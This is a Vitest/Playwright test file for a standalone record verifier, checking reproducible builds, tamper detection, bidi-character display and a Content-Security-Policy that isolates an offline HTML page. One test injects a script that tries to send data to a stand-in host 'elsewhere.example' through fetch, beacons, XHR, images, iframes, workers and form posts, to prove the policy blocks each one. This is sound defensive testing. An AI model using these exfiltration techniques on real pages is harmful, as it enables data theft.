import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeVerifierFiles } from '#scripts/build-verifier/make-files.ts';
import { launch } from '../support/browser.ts';

const run = promisify(execFile);
const folder = mkdtempSync(path.join(tmpdir(), 'standalone-'));
const record = path.resolve('test/vectors/record-revealed.ndjson');
const altered = path.join(folder, 'altered.ndjson');
let script: string;
let page: string;
let browser: Browser;

beforeAll(async () => {
  for (const { name, text } of await makeVerifierFiles()) writeFileSync(path.join(folder, name), text);
  script = path.join(folder, 'round-robin-verifier.cjs');
  page = path.join(folder, 'round-robin-verifier.html');
  writeFileSync(
    altered,
    readFileSync(record, 'utf8').replace(/"partials":\[\["\d/, (text) => `${text.slice(0, -1)}${(Number(text.at(-1)) % 9) + 1}`),
  );
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Where a hostile script would send what it read. Every browser here has one proxy, whatever the name, and no other way out. */
const ELSEWHERE = 'elsewhere.example';

type Network = { url: string; asked: string[]; connections: number; close(): void };

/** A proxy that answers every request as the server of its name, to whoever asks, and remembers it. */
async function startNetwork(): Promise<Network> {
  const server = createServer((request, response) => {
    network.asked.push(new URL(request.url ?? '', 'http://origin').pathname);
    const allowed = {
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Headers': '*',
      'Access-Control-Allow-Private-Network': 'true',
    };
    response.writeHead(200, { ...allowed, 'Content-Type': 'text/html' }).end('taken');
  });
  server.on('connect', (request, socket) => {
    network.asked.push(`tunnel ${request.url}`); // sockets and everything encrypted
    socket.destroy();
  });
  server.on('connection', () => network.connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const network: Network = {
    ...{ url: `http://127.0.0.1:${port}`, asked: [], connections: 0 },
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
  return network;
}

/** Opens a page from the disk in a browser of its own, with the network that it would have. */
async function openFile(file: string): Promise<{ page: Page; network: Network; requests: string[]; close(): Promise<void> }> {
  const network = await startNetwork();
  const context = await browser.newContext({ proxy: { server: network.url } });
  const opened = await context.newPage();
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  await opened.goto(pathToFileURL(file).href);
  const close = async () => {
    await context.close();
    network.close();
  };
  return { page: opened, network, requests, close };
}

async function checkInPage(file: string): Promise<{ state: string; result: string }> {
  const { page: opened, network, requests, close } = await openFile(page);
  await opened.setInputFiles('#file', file);
  await opened.waitForFunction(() => document.getElementById('result')?.childElementCount, undefined, { timeout: 60_000 });
  const [state, result] = await Promise.all(['#state', '#result'].map((id) => opened.innerText(id)));
  expect(requests.filter((url) => !url.startsWith('blob:'))).toEqual([pathToFileURL(page).href]);
  expect([network.asked, network.connections]).toEqual([[], 0]);
  await close();
  return { state: state!, result: result! };
}

/** What a script within the page can try, each under a path of its own, and the directive that is to stop it. Of a frame no path is told. */
const ATTEMPTS = {
  ...{ '/fetch': 'connect-src', '/beacon': 'connect-src', '/request': 'connect-src', '/events': 'connect-src' },
  ...{ '/image': 'img-src', '/style': 'style-src-elem', '/script': 'script-src-elem', '/': 'frame-src', '/video': 'media-src' },
};

/** Tries everything that does not leave the page. @returns once each was stopped or `patienceMs` is over, what was stopped, by which directive */
function tryEverything(opened: Page, patienceMs: number): Promise<Record<string, string>> {
  return opened.evaluate(
    async ({ origin, expected, patience }) => {
      const stopped: Record<string, string> = {};
      document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
        stopped[URL.canParse(blockedURI) ? new URL(blockedURI).pathname : blockedURI] = effectiveDirective;
      });
      fetch(`${origin}/fetch`).catch(() => {});
      navigator.sendBeacon(`${origin}/beacon`, 'a name');
      const request = new XMLHttpRequest();
      request.open('POST', `${origin}/request`);
      request.send('a name');
      new EventSource(`${origin}/events`);
      const add = (tag: string, attributes: object) => document.body.append(Object.assign(document.createElement(tag), attributes));
      add('img', { src: `${origin}/image` });
      add('link', { rel: 'stylesheet', href: `${origin}/style` });
      add('script', { src: `${origin}/script` });
      add('iframe', { src: `${origin}/` });
      add('video', { src: `${origin}/video` });
      const threadScript = `fetch('${origin}/thread').then(() => postMessage('sent'), () => postMessage('stopped'))`;
      const thread = new Worker(URL.createObjectURL(new Blob([threadScript], { type: 'text/javascript' })));
      stopped['/thread'] = await new Promise((resolve) => {
        thread.onmessage = ({ data }) => resolve(data);
      });
      const giveUpAt = Date.now() + patience;
      while (Object.keys(stopped).length < expected && Date.now() < giveUpAt) await new Promise((resolve) => setTimeout(resolve, 20));
      return stopped;
    },
    { origin: `http://${ELSEWHERE}`, expected: Object.keys(ATTEMPTS).length + 1, patience: patienceMs },
  );
}

/** Sends a form to elsewhere, which leaves the page unless the policy stops it. @returns what stopped it, if anything did */
function sendForm(opened: Page): Promise<string> {
  return opened
    .evaluate((origin) => {
      const form = Object.assign(document.createElement('form'), { action: `${origin}/form`, method: 'post' });
      document.body.append(form);
      const stopped = new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
      });
      form.submit();
      return stopped;
    }, `http://${ELSEWHERE}`)
    .catch(() => 'the page was left');
}

describe('the standalone verifier', () => {
  it('is built to the same bytes every time', async () => {
    for (const { name, text } of await makeVerifierFiles()) expect(readFileSync(path.join(folder, name), 'utf8') === text).toBe(true);
  });

  it('checks a record as one script of Node, far from the source', async () => {
    const { stdout } = await run(process.execPath, [script, record, '--json'], { cwd: folder });
    expect(JSON.parse(stdout)).toMatchObject({ ok: true, state: 'revealed', failures: [] });
    await expect(run(process.execPath, [script, altered], { cwd: folder })).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining('THIS RECORD DOES NOT HOLD'),
    });
    await expect(run(process.execPath, [script, record, '--bench'], { cwd: folder })).rejects.toMatchObject({ code: 2 });
  });

  it('says what it takes, and what is none of it, as the command of the source does', async () => {
    expect((await run(process.execPath, [script, '--help'], { cwd: folder })).stdout).toContain('FILE|URL|-');
    await expect(run(process.execPath, [script, folder])).rejects.toMatchObject({
      code: 2,
      stderr: expect.stringContaining('is a folder'),
    });
    const piped = run(process.execPath, [script, '-', '--json'], { cwd: folder });
    piped.child.stdin?.end(readFileSync(record));
    expect(JSON.parse((await piped).stdout)).toMatchObject({ ok: true });
  });

  it('tells in a page what a transfer has changed, and ends for a file of nothing but faults', async () => {
    const { page: opened, close } = await openFile(page);
    await opened.setInputFiles('#file', { name: 'record.ndjson', mimeType: '', buffer: gzipSync(readFileSync(record)) });
    await expect.poll(() => opened.innerText('#state'), { timeout: 60_000 }).toContain('compressed with gzip; unpack it first');
    await opened.setInputFiles('#file', { name: 'lines.ndjson', mimeType: '', buffer: Buffer.alloc(200_000, 10) });
    await expect.poll(() => opened.innerText('#result'), { timeout: 60_000 }).toContain('1000 of 200001 failures');
    const [statement] = readFileSync(record, 'utf8').split('\n');
    const hiding = Buffer.from(`${statement?.replace('"title":"', '"title":"Pay \u202e005 ')}\n`);
    await opened.setInputFiles('#file', { name: 'title.ndjson', mimeType: '', buffer: hiding });
    await expect.poll(() => opened.innerText('#result'), { timeout: 60_000 }).toContain('Pay ‹U+202E›005');
    await close();
  });

  it('checks a record in a page from the disk, which asks nothing of any network (T15)', async () => {
    const good = await checkInPage(record);
    expect(good.state).toBe('Everything in this record holds.');
    expect(good.result).toContain('signed together');
    expect(good.result).toMatch(/“.+”: \d+ members, issuer's key [0-9a-f]{64}/);
    const bad = await checkInPage(altered);
    expect(bad.state).toContain('does not hold');
    expect(bad.result).not.toContain('signed together');
  });

  it('has a policy that lets no script in it ask anything either, nor any script but its own begin', async () => {
    const injected = '<script>window.injected = true</script></html>';
    const infected = path.join(folder, 'infected.html');
    writeFileSync(infected, readFileSync(page, 'utf8').replace('</html>', injected));
    const { page: opened, network, close } = await openFile(infected);
    expect(await opened.evaluate('window.injected')).toBeUndefined();
    expect(await tryEverything(opened, 60_000)).toEqual({ ...ATTEMPTS, '/thread': 'stopped' });
    expect(await sendForm(opened)).toBe('form-action');
    expect([network.asked, network.connections]).toEqual([[], 0]);
    await close();
    // Without the policy all of it is done: the network here is one that would answer.
    const bare = path.join(folder, 'bare.html');
    writeFileSync(bare, readFileSync(infected, 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
    const open = await openFile(bare);
    expect(await open.page.evaluate('window.injected')).toBe(true);
    expect(await tryEverything(open.page, 0)).toEqual({ '/thread': 'sent' });
    await expect.poll(() => Object.keys(ATTEMPTS).filter((place) => !open.network.asked.includes(place)), { timeout: 60_000 }).toEqual([]);
    await sendForm(open.page);
    await expect.poll(() => open.network.asked, { timeout: 60_000 }).toContain('/form');
    await open.close();
  });
});
